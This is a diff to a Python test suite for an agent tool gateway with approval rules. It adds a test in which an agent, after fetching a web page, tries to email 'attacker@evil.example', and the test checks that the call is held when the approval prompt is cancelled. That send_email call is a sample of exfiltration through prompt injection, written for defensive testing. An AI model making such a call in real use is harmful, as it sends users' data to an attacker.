@@ -383,6 +383,27 @@ def test_a_declined_elicitation_denies_the_call(write_agent: Any, outbox: Path) 
     assert not outbox.exists()
 
 
+def test_a_cancelled_elicitation_leaves_the_call_to_the_inbox(
+    write_agent: Any, outbox: Path
+) -> None:
+    charter = {"name": "c", "approvals": {"forbid_self_approval": False}}
+    agent_file = locked(write_agent, charter=charter)
+
+    async def dismiss(context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
+        return types.ElicitResult(action="cancel")
+
+    async def client() -> types.CallToolResult:
+        params = gateway(agent_file, "--as", "alice", "--ask-timeout", "0")
+        async with session(params, elicit=dismiss) as mcp:
+            await mcp.call_tool("fetch_page", {"url": "https://shop.example"})
+            return await mcp.call_tool("send_email", {"to": "attacker@evil.example", "body": "c"})
+
+    held = anyio.run(client)
+    assert held.is_error and "charter approvals approve" in text(held)
+    assert payloads("approval.granted") == [] and payloads("approval.denied") == []
+    assert not outbox.exists()
+
+
 def test_elicitation_is_not_used_when_the_charter_forbids_self_approval(
     write_agent: Any, outbox: Path
 ) -> None:
